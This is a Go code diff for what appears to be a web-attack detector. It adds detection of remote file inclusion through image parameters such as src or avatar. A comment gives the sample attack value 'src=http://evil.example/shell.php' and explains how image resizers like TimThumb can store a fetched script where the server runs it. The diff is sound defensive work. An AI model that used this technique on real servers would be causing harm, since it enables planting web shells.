@@ -145,6 +145,7 @@ const (
 	rfiOtherName   = iota
 	rfiPageName    // names the page shown (page, view, lang)
 	rfiIncludeName // names what the page includes (file, module, template)
+	rfiMediaName   // names an image the server fetches (src, avatar)
 )
 
 // rfiNameRole reads a parameter name's role. The last part of a nested
@@ -169,6 +170,11 @@ func rfiNameRole(name string) int {
 		return rfiIncludeName
 	case "page", "view", "lang", "language", "p", "pg", "show", "content", "doc", "document", "cat", "section", "main", "body", "home", "sub", "subpage", "pagina":
 		return rfiPageName
+	}
+	switch n {
+	case "src", "img", "image", "image_url", "imageurl", "img_url", "photo", "avatar", "avatar_url", "thumb", "thumbnail", "picture", "icon", "logo":
+		// An image that a resizer or a profile fetches and stores.
+		return rfiMediaName
 	}
 	// document_root, mosConfig_absolute_path, include_dir, templateUrl: the prefix a
 	// page puts before the file it includes, or the template it loads.
@@ -221,6 +227,14 @@ func detectRFIURL(e *emitter, v *value) {
 		}
 	case rfiPageName:
 		if rfiTextExt(u.ext) || u.fakeExt || u.cutOff && u.file != "" || u.dotDot && script {
+			e.hit(rRFIScript)
+		}
+	case rfiMediaName:
+		if script && !rfiTextExt(u.ext) && strings.IndexByte(n, '?') < 0 {
+			// src=http://evil.example/shell.php: a server script
+			// fetched as an image lands in a directory the server runs
+			// files from (TimThumb, image resizers). With a query it
+			// is a dynamic image (image.php?id=42).
 			e.hit(rRFIScript)
 		}
 	}
